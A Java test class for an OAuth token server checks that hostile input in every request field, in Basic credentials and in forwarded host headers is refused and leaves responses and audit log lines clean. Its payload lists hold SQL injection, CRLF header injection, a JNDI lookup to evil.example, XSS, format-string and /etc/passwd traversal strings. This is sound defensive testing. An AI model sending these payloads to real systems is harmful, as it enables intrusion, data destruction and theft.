package dev.concordat.token;

import static dev.concordat.token.TokenRequests.FORM;
import static dev.concordat.token.TokenRequests.plain;
import static dev.concordat.token.TokenRequests.user;
import static org.assertj.core.api.Assertions.assertThat;

import dev.concordat.contracts.events.PartnerKind;
import dev.concordat.contracts.events.PartnerRegistered;
import dev.concordat.contracts.events.Trust;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.Header;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Shapes that mean something to a database, a log, a header or a shell, in every field that a
 * request has: none becomes a token, an error of ours, a header or a line of the audit log.
 */
@QuarkusTest
@QuarkusTestResource(RunningSuite.class)
class HostileRequestsTest {

  private static final List<String> SHAPES =
      List.of(
          "' OR '1'='1' --",
          "x'; DROP TABLE partners; --",
          "\" UNION SELECT secret FROM clients /*",
          "x\" client=\"admin\" partner=\"exchange",
          "x\\\" reason=\\",
          "x\r\nX-Injected: 1",
          "x\r\n\r\n<html>",
          "x\ntoken issued client=\"admin\"",
          "x\u0000y",
          "x\u0085token issued",
          "x\u2028token issued client=\"admin\"",
          "%0d%0aX-Injected:%201",
          "${jndi:ldap://evil.example/a}",
          "%s%n%1$s",
          "<script>alert(1)</script>",
          "../../../etc/passwd",
          "\u202Eexchange",
          "*",
          "'");

  private static final List<String> OF_TOKEN =
      List.of(
          "grant_type",
          "client_id",
          "client_secret",
          "client_assertion",
          "client_assertion_type",
          "audience",
          "resource",
          "requested_token_type",
          "subject_token",
          "subject_token_type",
          "user_smtp",
          "user_upn",
          "user_sid",
          "signing_key",
          "actor_token",
          "assertion");
  private static final List<String> OF_ACS =
      List.of("grant_type", "assertion", "resource", "realm", "scope");
  private static final List<String> OF_INTROSPECTION = List.of("resource");

  /** A wrong secret is slow on purpose: a few shapes will do. */
  private static final List<String> PROOFS = List.of("client_id", "client_secret");

  private static final String SECRET = "s3cret";

  @Inject Registry registry;
  private AuditLog audit;

  @BeforeEach
  void listen() {
    registry.exchange("exchange");
    registry.register(client());
    audit = new AuditLog();
  }

  @AfterEach
  void stop() {
    audit.close();
  }

  static Stream<Arguments> everyField() {
    return Stream.of(
            fields("/oauth2/token", OF_TOKEN),
            fields("/tokens/OAuth/2", OF_ACS),
            fields("/oauth2/introspect", OF_INTROSPECTION))
        .flatMap(it -> it);
  }

  private static Stream<Arguments> fields(String path, List<String> names) {
    return names.stream().map(name -> Arguments.of(path, name));
  }

  @ParameterizedTest
  @MethodSource("everyField")
  void in_a_field_are_refused_and_become_nothing_else(String path, String field) {
    String admin = OidcIssuer.admin();
    post(path, sound(path, field, admin)).then().statusCode(200);
    for (String shape : PROOFS.contains(field) ? SHAPES.subList(2, 8) : SHAPES) {
      Map<String, String> form = sound(path, field, admin);
      if (field.equals("assertion")) {
        form.put("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer");
        form.keySet().removeIf(name -> name.startsWith("subject_"));
      }
      form.put(field, shape);

      Response answer = post(path, form);

      assertHarmless(answer, field + "=" + shape);
      assertThat(answer.statusCode()).as("%s=%s", field, shape).isBetween(400, 401);
      assertThat(answer.body().asString()).doesNotContain("access_token\"");
      if (shape.chars().anyMatch(Character::isISOControl)) {
        assertThat(answer.body().asString()).contains("control characters");
      }
    }
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/oauth2/token", "/tokens/OAuth/2", "/oauth2/introspect"})
  void in_basic_credentials_are_refused_and_become_nothing_else(String path) {
    for (String shape : SHAPES.subList(2, 6)) {
      String pair = URLEncoder.encode(shape, StandardCharsets.UTF_8) + ":" + shape;
      Response answer =
          plain()
              .contentType(FORM)
              .header(
                  "Authorization",
                  "Basic "
                      + Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.UTF_8)))
              .body(encoded(withoutProof(path)))
              .post(path);

      assertHarmless(answer, shape);
      assertThat(answer.statusCode()).isBetween(400, 401);
    }
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x\",error=\"none",
        "a.example\", realm=\"b",
        "' OR '1'='1' --",
        "${jndi:ldap://evil.example/a}",
        "localhost;X-Injected=1"
      })
  void in_what_an_ingress_hands_on_leave_the_challenge_as_it_is(String shape) {
    String usual = challenge("Bearer nonsense", "localhost");

    assertThat(challenge("Bearer nonsense", shape)).isEqualTo(usual);
    assertThat(challenge("Bearer " + shape, "localhost")).isEqualTo(usual);
    assertOneLineEach();
  }

  @ParameterizedTest
  @ValueSource(strings = {"evil\",error=\"none", "evil\\", "evil,more@x"})
  void in_a_partners_own_name_leave_the_challenge_as_it_is(String realm) {
    String usual = challenge("Bearer nonsense", "localhost");
    registry.register(
        Registrations.partner(
            "evil",
            PartnerKind.SKYPE,
            "00000004-0000-0ff1-ce00-000000000000",
            realm,
            new Trust.ByCertificates(List.of(TestKeys.rsa().certificate().pem()))));
    try {
      assertThat(challenge("Bearer nonsense", "localhost")).isEqualTo(usual);
    } finally {
      registry.remove("evil");
    }
  }

  private static String challenge(String authorization, String host) {
    return RestAssured.given()
        .header("Authorization", authorization)
        .header("X-Forwarded-Host", host)
        .get("/authorize")
        .then()
        .statusCode(401)
        .extract()
        .header("WWW-Authenticate");
  }

  /** A request that is granted while the one field is as it should be. */
  private static Map<String, String> sound(String path, String field, String admin) {
    Map<String, String> form = withoutProof(path);
    if (PROOFS.contains(field) || path.equals("/tokens/OAuth/2")) {
      form.put("client_id", "hostile");
      form.put("client_secret", SECRET);
    } else {
      form.put("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer");
      form.put("client_assertion", admin);
    }
    return form;
  }

  private static PartnerRegistered client() {
    var like = Registrations.workload("hostile", TokenServerTest.clientSecret(SECRET));
    return new PartnerRegistered(
        "hostile",
        PartnerKind.GENERIC,
        "22222222-2222-3333-4444-555555555555",
        "litwareinc.com",
        like.trustLevel(),
        true,
        null,
        List.of(Registrations.anyone("*")),
        like.clientAuth(),
        null,
        null,
        like.revision(),
        like.changedAt(),
        like.changedBy());
  }

  private static Map<String, String> withoutProof(String path) {
    Map<String, String> form =
        switch (path) {
          case "/oauth2/token" -> user("exchange", "", "sip:kenmyer@litwareinc.com");
          case "/oauth2/introspect" -> new LinkedHashMap<>(Map.of("token", "eyJ"));
          default ->
              new LinkedHashMap<>(
                  Map.of(
                      "grant_type",
                      "client_credentials",
                      "resource",
                      "https://autodiscover.litwareinc.com/"));
        };
    form.remove("client_assertion");
    form.remove("client_assertion_type");
    return form;
  }

  private static Response post(String path, Map<String, String> form) {
    return plain().contentType(FORM).body(encoded(form)).post(path);
  }

  private static String encoded(Map<String, String> form) {
    return form.entrySet().stream()
        .map(it -> it.getKey() + "=" + URLEncoder.encode(it.getValue(), StandardCharsets.UTF_8))
        .collect(Collectors.joining("&"));
  }

  private static void assertHarmless(Response answer, String what) {
    assertThat(answer.headers().asList())
        .as(what)
        .extracting(Header::getName)
        .doesNotContain("X-Injected");
    assertThat(answer.contentType()).as(what).startsWith("application/json");
    assertThat(answer.jsonPath().getMap("$")).as(what).isNotEmpty();
    String description = answer.jsonPath().getString("error_description");
    if (description != null) {
      assertThat(description.replace("\r\n", " "))
          .as(what)
          .matches("[\\x20-\\x21\\x23-\\x5B\\x5D-\\x7E]*");
    }
  }

  /** Every value in its quotes, every line one line, and none that says what did not happen. */
  private void assertOneLineEach() {
    for (String line : audit.lines()) {
      assertThat(line.chars())
          .as(line)
          .noneMatch(it -> Character.isISOControl(it) || it == 0x2028 || it == 0x2029);
      String bare = line.replaceAll("\"[^\"]*\"", "?");
      assertThat(bare).as(line).doesNotContain("\"").matches("[a-z ]+( [a-z]+=[A-Za-z0-9?_:.-]+)*");
      if (line.startsWith("token issued")) {
        assertThat(line).matches("token issued client=\"(ann|hostile)\" partner=\"exchange\" .*");
      }
    }
  }
}
